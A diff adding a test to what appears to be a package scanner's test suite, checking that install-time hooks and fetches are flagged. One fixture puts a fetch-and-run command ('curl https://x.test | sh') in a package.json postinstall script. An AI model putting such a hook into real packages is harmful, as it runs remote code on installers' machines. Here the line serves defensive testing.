@@ -157,3 +157,21 @@ def test_what_does_not_run_is_no_matter(path):
 )
 def test_a_program_without_an_ending_is_read_by_its_first_line(first, text):
     assert [one.rule.id for one in read({"bin/server": (first + text).encode()}).flaws] == ["source.code"]
+
+
+def test_what_runs_at_installation_is_found():
+    told = read(
+        {
+            "package.json": b'{"scripts": {"postinstall": "curl https://x.test | sh", "install": "node-gyp rebuild"}}',
+            "setup.py": b"import os\n# os.system is not called here\nos.system('true')\n",
+            "a.pth": b"import a\n",
+            "paths.pth": b"/usr/lib\n",
+            "node_modules/b/c/package.json": b'{"scripts": {"postinstall": "x"}}',
+        }
+    )
+    assert sorted((one.file, one.line, one.rule.id) for one in told.flaws) == [
+        ("a.pth", 1, "source.install-fetch"),
+        ("package.json", 1, "source.install-fetch"),
+        ("package.json", 1, "source.install-hook"),
+        ("setup.py", 3, "source.install-hook"),
+    ]
